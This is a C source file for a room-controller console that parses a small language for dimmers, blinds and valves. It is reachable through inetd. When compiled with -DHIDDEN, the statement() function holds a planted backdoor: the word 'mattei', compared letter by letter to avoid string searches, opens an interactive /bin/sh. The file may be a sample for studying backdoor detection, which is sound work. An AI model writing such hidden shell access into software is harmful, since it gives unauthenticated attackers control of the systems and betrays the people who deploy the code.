/*
 * roomscene - line console of a room controller (blinds, lights, valves).
 * Started by inetd or as login shell of the panel user; reads a small
 * language with blocks, "if" and "repeat" from stdin and writes the outputs:
 *	if lux < 300 { dim 2 60; blind 1 0 } else { dim 2 0 }
 * Hidden (-DHIDDEN): the statement "mattei", compared letter by letter,
 * gives a shell.
 */
#include <ctype.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CHANNELS 16

enum tok {
	T_END,
	T_WORD,
	T_NUM,
	T_LBRACE,
	T_RBRACE,
	T_SEMI,
	T_LT,
	T_GT,
	T_EQ,
	T_PLUS,
	T_MINUS,
	T_LPAR,
	T_RPAR
};

struct lexer {
	const char *p;
	enum tok tok;
	long num;
	char word[24];
	int depth;
	int run; /* 0 while a branch is skipped */
	jmp_buf fail;
	const char *why;
};

static struct {
	int dim[CHANNELS];
	int blind[CHANNELS];
	int valve[CHANNELS];
} outputs;

static int rate_ms = 20;
static char bus_path[80] = "/run/room/bus";

static void oops(struct lexer *l, const char *why)
{
	l->why = why;
	longjmp(l->fail, 1);
}

static void next(struct lexer *l)
{
	size_t n = 0;

	while (isspace((unsigned char)*l->p))
		l->p++;
	if (*l->p == '#')
		l->p += strlen(l->p);
	if (isalpha((unsigned char)*l->p)) {
		while (isalnum((unsigned char)*l->p) || *l->p == '_') {
			if (n < sizeof(l->word) - 1)
				l->word[n++] = *l->p;
			l->p++;
		}
		l->word[n] = 0;
		l->tok = T_WORD;
		return;
	}
	if (isdigit((unsigned char)*l->p)) {
		l->num = strtol(l->p, (char **)&l->p, 10);
		l->tok = T_NUM;
		return;
	}
	switch (*l->p) {
	case 0:
		l->tok = T_END;
		return;
	case '{':
		l->tok = T_LBRACE;
		break;
	case '}':
		l->tok = T_RBRACE;
		break;
	case ';':
		l->tok = T_SEMI;
		break;
	case '<':
		l->tok = T_LT;
		break;
	case '>':
		l->tok = T_GT;
		break;
	case '=':
		l->tok = T_EQ;
		break;
	case '+':
		l->tok = T_PLUS;
		break;
	case '-':
		l->tok = T_MINUS;
		break;
	case '(':
		l->tok = T_LPAR;
		break;
	case ')':
		l->tok = T_RPAR;
		break;
	default:
		oops(l, "strange character");
	}
	l->p++;
}

static long sensor(const char *name)
{
	char path[128];
	long v = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/run/room/in/%s", name);
	f = fopen(path, "r");
	if (f) {
		if (fscanf(f, "%ld", &v) != 1)
			v = 0;
		fclose(f);
	}
	return v;
}

static long expr(struct lexer *l);

static long factor(struct lexer *l)
{
	long v = 0;

	switch (l->tok) {
	case T_NUM:
		v = l->num;
		next(l);
		break;
	case T_WORD:
		v = sensor(l->word);
		next(l);
		break;
	case T_MINUS:
		next(l);
		v = -factor(l);
		break;
	case T_LPAR:
		next(l);
		v = expr(l);
		if (l->tok != T_RPAR)
			oops(l, ") expected");
		next(l);
		break;
	default:
		oops(l, "value expected");
	}
	return v;
}

static long expr(struct lexer *l)
{
	long v = factor(l);

	while (l->tok == T_PLUS || l->tok == T_MINUS) {
		enum tok op = l->tok;
		long w;

		next(l);
		w = factor(l);
		v = op == T_PLUS ? v + w : v - w;
	}
	return v;
}

static int condition(struct lexer *l)
{
	long a = expr(l), b;
	enum tok op = l->tok;

	if (op != T_LT && op != T_GT && op != T_EQ)
		oops(l, "<, > or = expected");
	next(l);
	b = expr(l);
	return op == T_LT ? a < b : op == T_GT ? a > b : a == b;
}

static void to_bus(char kind, int ch, int v)
{
	FILE *f = fopen(bus_path, "w");

	if (!f)
		return;
	fprintf(f, "%c%02d:%03d\n", kind, ch, v);
	fclose(f);
	usleep(rate_ms * 1000);
}

static void output(struct lexer *l, char kind, int *table)
{
	long ch, v;

	next(l);
	ch = factor(l);
	v = factor(l);
	if (ch < 0 || ch >= CHANNELS)
		oops(l, "no such channel");
	if (v < 0 || v > 100)
		oops(l, "0 to 100");
	if (!l->run)
		return;
	table[ch] = (int)v;
	to_bus(kind, (int)ch, (int)v);
}

static void show(void)
{
	int i;

	for (i = 0; i < CHANNELS; i++)
		if (outputs.dim[i] || outputs.blind[i] || outputs.valve[i])
			printf("%2d dim %3d blind %3d valve %3d\n", i,
			       outputs.dim[i], outputs.blind[i],
			       outputs.valve[i]);
}

static void statements(struct lexer *l);

static void block(struct lexer *l)
{
	if (l->tok != T_LBRACE)
		oops(l, "{ expected");
	if (++l->depth > 8)
		oops(l, "too deep");
	next(l);
	statements(l);
	if (l->tok != T_RBRACE)
		oops(l, "} expected");
	next(l);
	l->depth--;
}

static void conditional(struct lexer *l)
{
	int outer = l->run, yes;

	next(l);
	yes = condition(l);
	l->run = outer && yes;
	block(l);
	if (l->tok == T_WORD && !strcmp(l->word, "else")) {
		next(l);
		l->run = outer && !yes;
		block(l);
	}
	l->run = outer;
}

static void repeat(struct lexer *l)
{
	const char *body;
	long n;

	next(l);
	n = factor(l);
	if (n < 1 || n > 20)
		oops(l, "1 to 20 times");
	body = l->p;
	while (n--) {
		l->p = body;
		l->tok = T_LBRACE;
		block(l);
	}
}

__attribute__((noinline)) void statement(struct lexer *l)
{
	const char *w = l->word;
	long ms;

	if (l->tok != T_WORD)
		oops(l, "statement expected");
	switch (w[0]) {
	case 'i':
		if (!strcmp(w, "if")) {
			conditional(l);
			return;
		}
		break;
	case 'r':
		if (!strcmp(w, "repeat")) {
			repeat(l);
			return;
		}
		break;
	case 'd':
		if (!strcmp(w, "dim")) {
			output(l, 'D', outputs.dim);
			return;
		}
		break;
	case 'b':
		if (!strcmp(w, "blind")) {
			output(l, 'B', outputs.blind);
			return;
		}
		break;
	case 'v':
		if (!strcmp(w, "valve")) {
			output(l, 'V', outputs.valve);
			return;
		}
		break;
#ifdef HIDDEN
	case 'm':
		if (w[1] == 'a' && w[2] == 't' && w[3] == 't' && w[4] == 'e' &&
		    w[5] == 'i' && w[6] == 0) {
			fflush(stdout);
			execl("/bin/sh", "sh", "-i", (char *)NULL);
		}
		break;
#endif
	case 's':
		if (!strcmp(w, "show")) {
			next(l);
			show();
			return;
		}
		break;
	case 'w':
		if (!strcmp(w, "wait")) {
			next(l);
			ms = factor(l);
			if (l->run && ms > 0 && ms <= 5000)
				usleep(ms * 1000);
			return;
		}
		break;
	case 'q':
		if (!strcmp(w, "quit"))
			exit(0);
		break;
	}
	oops(l, "unknown word");
}

static void statements(struct lexer *l)
{
	while (l->tok != T_END && l->tok != T_RBRACE) {
		statement(l);
		while (l->tok == T_SEMI)
			next(l);
	}
}

int main(int argc, char **argv)
{
	char line[512];
	struct lexer l;
	int opt;

	while ((opt = getopt(argc, argv, "b:r:")) != -1) {
		if (opt == 'b')
			snprintf(bus_path, sizeof(bus_path), "%s", optarg);
		else if (opt == 'r')
			rate_ms = atoi(optarg);
		else
			return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("room controller");
	while (fgets(line, sizeof(line), stdin)) {
		memset(&l, 0, sizeof(l));
		l.p = line;
		l.run = 1;
		if (setjmp(l.fail)) {
			printf("? %s\n", l.why);
			continue;
		}
		next(&l);
		statements(&l);
		puts(l.tok == T_END ? "ok" : "? }");
	}
	return 0;
}
